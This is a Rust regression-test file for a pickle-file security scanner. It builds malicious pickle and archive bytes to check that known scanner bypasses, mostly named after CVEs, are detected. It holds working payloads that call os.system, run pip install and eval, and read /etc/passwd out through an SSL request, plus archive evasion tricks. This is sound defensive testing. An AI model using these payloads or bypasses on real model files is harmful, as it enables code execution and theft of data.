//! Regression tests for every publicly documented bypass class of existing pickle scanners,
//! each built as bytes here. Named after the CVE or technique they pin.

use crate::analyse::analyse_bytes;
use crate::zip::build::{zip, Member};
use crate::Config;
use vouch_report::{Finding, Verdict};

fn verdict(data: &[u8]) -> (Verdict, Vec<Finding>) {
    let o = analyse_bytes(data, &Config::default());
    (Verdict::from_findings(&o.findings), o.findings)
}

fn codes(f: &[Finding]) -> Vec<&'static str> {
    f.iter().map(|x| x.rule.code).collect()
}

fn assert_dangerous(data: &[u8], evidence: &str) -> Vec<Finding> {
    let (v, f) = verdict(data);
    assert_eq!(v, Verdict::Dangerous, "{f:#?}");
    assert!(f.iter().any(|x| x.evidence.contains(evidence)), "no finding with evidence {evidence}: {f:#?}");
    f
}

/// `posix.system("id")`, protocol 2.
const SYSTEM: &[u8] = b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.";

fn torch_zip(members: &[Member<'_>]) -> Vec<u8> {
    zip(members, b"")
}

#[test]
fn cve_2025_1716_pip_main() {
    let p = b"\x80\x04\x95\x30\x00\x00\x00\x00\x00\x00\x00\x8c\x03pip\x8c\x04main\x93\x8c\x07install\x8c\x04evil\x86R.";
    let f = assert_dangerous(p, "pip.main");
    assert_eq!(f.iter().find(|x| x.evidence == "pip.main").unwrap().rule.code, "VCH-PKL-001");
}

#[test]
fn cve_2025_1889_pickle_member_with_a_non_standard_extension() {
    let z = torch_zip(&[
        Member::new("archive/data.pkl", b"\x80\x02}q\x00."),
        Member::new("archive/config.json", SYSTEM),
        Member::new("archive/version", b"3\n"),
    ]);
    let f = assert_dangerous(&z, "posix.system");
    assert!(f.iter().any(|x| x.location.member.as_deref() == Some("archive/config.json")));
}

#[test]
fn cve_2025_1944_zip_name_mismatch() {
    let mut m = Member::new("archive/data.pkl", SYSTEM);
    m.local_name = Some("archive/datap.kl");
    let f = assert_dangerous(&torch_zip(&[m]), "posix.system");
    assert!(codes(&f).contains(&"VCH-ARC-001"));
}

#[test]
fn cve_2025_1945_zip_flag_bits() {
    for flags in [0x0001u16, 0x0020, 0x0040] {
        let mut m = Member::new("archive/data.pkl", SYSTEM);
        m.flags = flags;
        let f = assert_dangerous(&torch_zip(&[m]), "posix.system");
        assert!(codes(&f).contains(&"VCH-ARC-004"), "flags {flags:#x}: {f:#?}");
    }
}

#[test]
fn cve_2025_10155_plain_pickle_named_like_a_model() {
    let dir = tempfile::tempdir().unwrap();
    for name in ["pytorch_model.bin", "model.pt", "weights.txt", "model.safetensors"] {
        let p = dir.path().join(name);
        std::fs::write(&p, SYSTEM).unwrap();
        let r = crate::scan_file(&p, name.into(), &Config::default());
        assert_eq!(r.verdict, Verdict::Dangerous, "{name}");
        assert_eq!(r.format, "pickle");
    }
}

#[test]
fn cve_2025_10156_bad_crc() {
    let mut m = Member::new("archive/data.pkl", SYSTEM);
    m.crc = Some(0xdead_beef);
    let f = assert_dangerous(&torch_zip(&[m]), "posix.system");
    assert!(codes(&f).contains(&"VCH-ARC-003"));
}

#[test]
fn cve_2025_10157_submodule_of_a_blocked_module() {
    // asyncio.unix_events reaches subprocess; posixpath.os.system reaches os.
    let p = b"\x80\x04\x8c\x13asyncio.unix_events\x8c\x18_UnixSubprocessTransport\x93)R.";
    assert_dangerous(p, "asyncio.unix_events._UnixSubprocessTransport");
    let p = b"\x80\x04\x8c\x09posixpath\x8c\x09os.system\x93\x8c\x02id\x85R.";
    assert_dangerous(p, "posixpath.os.system");
}

#[test]
fn cve_2025_46417_linecache_and_ssl_exfiltration() {
    // ssl.get_server_certificate((linecache.getline('/etc/passwd', 1), 443))
    let p = b"cssl\nget_server_certificate\n((clinecache\ngetline\n(S'/etc/passwd'\nI1\ntRI443\nttR.";
    let f = assert_dangerous(p, "linecache.getline");
    assert!(f.iter().any(|x| x.evidence == "ssl.get_server_certificate" && x.rule.code == "VCH-PKL-001"));
}

#[test]
fn nullifai_broken_stream_after_the_payload() {
    // The payload runs, then the stream breaks: loaders execute it before failing.
    let mut p = SYSTEM[..SYSTEM.len() - 1].to_vec();
    p.extend_from_slice(b"X\xff\xff\xff\x00junk");
    let f = assert_dangerous(&p, "posix.system");
    assert!(codes(&f).contains(&"VCH-PKL-009"));
}

#[test]
fn nullifai_7z_wrapper() {
    let data = std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/7z/picklescan_malicious1.7z")).unwrap();
    assert_dangerous(&data, "builtins.eval");
}

#[test]
fn stacked_pickles_payload_in_the_second_stream() {
    let mut p = b"\x80\x04}\x94.".to_vec();
    p.extend_from_slice(SYSTEM);
    let f = assert_dangerous(&p, "posix.system");
    assert!(codes(&f).contains(&"VCH-PKL-011"));
}

#[test]
fn memo_and_binget_indirection() {
    let p = b"\x80\x04\x8c\x02os\x94\x8c\x06system\x940h\x00h\x01\x93\x8c\x02id\x85R.";
    assert_dangerous(p, "os.system");
    let p = b"Vos\np2\n0Vsystem\np3\n0g2\ng3\n\x93(Vid\ntR.";
    assert_dangerous(p, "os.system");
}

#[test]
fn inst_and_obj_invocation() {
    assert_dangerous(b"(S'id'\nios\nsystem\n.", "os.system");
    assert_dangerous(b"(cos\nsystem\nS'id'\no.", "os.system");
}

#[test]
fn module_attribute_override_redirects_a_later_import() {
    let p = b"\x80\x04\x8c\x05torch\x8c\x06_utils\x93}\x8c\x0f_rebuild_tensor\x8c\x08builtins\x8c\x04eval\x93sb0.";
    let f = assert_dangerous(p, "torch._utils");
    assert!(codes(&f).contains(&"VCH-PKL-006"));
}

#[test]
fn functools_partial_on_a_dangerous_callable_is_critical() {
    let f = assert_dangerous(b"cfunctools\npartial\n(cos\nsystem\nS'id'\ntR)R.", "os.system");
    assert!(f.iter().any(|x| x.evidence == "os.system" && x.rule.code == "VCH-PKL-001"));
}

#[test]
fn embedded_pickle_carried_as_data_is_suspicious_not_clean() {
    let mut p = b"\x80\x04}\x94\x8c\x07payload\x94C".to_vec();
    p.push(SYSTEM.len() as u8);
    p.extend_from_slice(SYSTEM);
    p.extend_from_slice(b"s.");
    let (v, f) = verdict(&p);
    assert_eq!(v, Verdict::Suspicious, "{f:#?}");
    assert!(codes(&f).contains(&"VCH-PKL-007"));
}

#[test]
fn npy_object_array_carries_a_pickle() {
    let mut d = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".to_vec();
    while !(10 + d.len() + 1).is_multiple_of(64) {
        d.push(b' ');
    }
    d.push(b'\n');
    let mut npy = b"\x93NUMPY\x01\x00".to_vec();
    npy.extend_from_slice(&(d.len() as u16).to_le_bytes());
    npy.extend_from_slice(&d);
    npy.extend_from_slice(SYSTEM);
    let f = assert_dangerous(&npy, "posix.system");
    assert!(codes(&f).contains(&"VCH-NPY-001"));
    // The same array inside an .npz (a zip of .npy members).
    assert_dangerous(&zip(&[Member::new("arr_0.npy", &npy)], b""), "posix.system");
}

#[test]
fn compressed_joblib_style_stream() {
    let z = miniz_oxide::deflate::compress_to_vec_zlib(SYSTEM, 6);
    assert_dangerous(&z, "posix.system");
}

#[test]
fn nested_archives_and_depth_limit() {
    let inner = zip(&[Member::new("data.pkl", SYSTEM)], b"");
    let outer = zip(&[Member::new("inner.zip", &inner)], b"");
    let f = assert_dangerous(&outer, "posix.system");
    assert!(f.iter().any(|x| x.location.member.as_deref() == Some("inner.zip/data.pkl")));
    let mut nested = SYSTEM.to_vec();
    for i in 0..12 {
        let name = format!("layer{i}.zip");
        nested = zip(&[Member::new(&name, &nested)], b"");
    }
    let (v, f) = verdict(&nested);
    assert_eq!(v, Verdict::Incomplete, "{f:#?}");
    assert!(codes(&f).contains(&"VCH-GEN-005"));
}

#[test]
fn decompression_bomb_is_incomplete_not_fatal() {
    let zeros = vec![0u8; 64 << 20];
    let mut m = Member::new("bomb.bin", &zeros);
    m.deflate = true;
    let (v, f) = verdict(&zip(&[m], b""));
    assert_eq!(v, Verdict::Incomplete, "{f:#?}");
    assert!(codes(&f).contains(&"VCH-ARC-007"));
}

#[test]
fn prepended_data_duplicates_and_traversal() {
    let z = zip(
        &[Member::new("data.pkl", b"\x80\x02}q\x00."), Member::new("data.pkl", SYSTEM), Member::new("../evil.pkl", b"N.")],
        b"GIF89a junk in front",
    );
    let f = assert_dangerous(&z, "posix.system");
    let c = codes(&f);
    for code in ["VCH-ARC-002", "VCH-ARC-005", "VCH-ARC-010"] {
        assert!(c.contains(&code), "{code} missing: {c:?}");
    }
}

#[test]
fn tar_members_and_links() {
    let t = crate::tar::build(&[
        ("sys_info", b'0', b"\x80\x02}q\x00."),
        ("pickle", b'0', SYSTEM),
        ("storages", b'0', b"\x80\x02K\x00."),
        ("evil", b'2', b"/etc/passwd"),
    ]);
    let f = assert_dangerous(&t, "posix.system");
    assert!(codes(&f).contains(&"VCH-ARC-010"));
}

#[test]
fn truncated_and_garbage_inputs_are_never_clean() {
    for data in [&SYSTEM[..10], b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\xff", &[0xde, 0xad, 0xbe, 0xef, 0x00][..]] {
        let (v, f) = verdict(data);
        assert_ne!(v, Verdict::Clean, "{data:?}: {f:#?}");
    }
}

#[test]
fn polyglot_pickle_named_safetensors_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("model.safetensors");
    std::fs::write(&p, SYSTEM).unwrap();
    let r = crate::scan_file(&p, "model.safetensors".into(), &Config::default());
    assert_eq!(r.verdict, Verdict::Dangerous);
    assert!(codes(&r.findings).contains(&"VCH-ARC-012"), "{:#?}", r.findings);
    // Inside an archive too: a pickle named .txt.
    let z = zip(&[Member::new("model/weights.txt", SYSTEM)], b"");
    assert!(codes(&assert_dangerous(&z, "posix.system")).contains(&"VCH-ARC-012"));
}

#[test]
fn torchscript_code_reaching_the_shell() {
    let code = b"def forward(self, x: Tensor) -> Tensor:\n    torch.ops.load_library(\"/tmp/x.so\")\n    return x\n";
    let z = zip(
        &[
            Member::new("m/data.pkl", b"\x80\x02}q\x00."),
            Member::new("m/constants.pkl", b"\x80\x02)."),
            Member::new("m/code/__torch__/m.py", code),
        ],
        b"",
    );
    let f = assert_dangerous(&z, "torch.ops.load_library");
    let hit = f.iter().find(|x| x.rule.code == "VCH-TS-001").unwrap();
    assert_eq!(hit.location.member.as_deref(), Some("m/code/__torch__/m.py"));
    assert_eq!(hit.location.line, Some(2));
}
